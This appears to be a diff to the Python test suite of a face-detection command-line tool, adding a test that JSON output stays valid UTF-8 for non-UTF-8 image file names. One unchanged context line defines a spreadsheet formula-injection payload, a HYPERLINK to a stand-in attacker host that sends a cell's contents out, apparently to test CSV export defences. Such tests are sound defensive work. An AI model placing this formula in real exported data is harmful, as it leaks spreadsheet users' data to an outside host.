@@ -4,9 +4,12 @@ from __future__ import annotations
 
 import csv
 import io
+import json
+import os
 import sqlite3
+import subprocess
 
-from tests.helpers import json_rows, one_line_error
+from tests.helpers import FACECLI, json_rows, one_line_error
 
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
 
@@ -63,3 +66,13 @@ def test_watch_opens_only_the_stream_schemes_it_names(run, images):
         proc = run("watch", "--video", url)
         one_line_error(proc, url.split("://")[1], "not a stream facecli opens", "rtsp://")
         assert proc.stdout == ""
+
+
+def test_json_lines_stay_utf8_for_file_names_that_are_not(images, tmp_path):
+    name = b"ob\xffama.jpg"  # a name in Latin-1 from an old camera, not UTF-8
+    (tmp_path / os.fsdecode(name)).write_bytes((images / "obama.jpg").read_bytes())
+    env = dict(os.environ, FACECLI_DEVICE="cpu")
+    proc = subprocess.run([FACECLI, "detect", str(tmp_path), "--json"], capture_output=True, env=env, timeout=300)
+    assert proc.returncode == 0, proc.stderr
+    (row,) = [json.loads(line) for line in proc.stdout.decode("utf-8").splitlines()]  # strict UTF-8, valid JSON
+    assert os.fsencode(row["file"]).endswith(name)  # the name's bytes come back
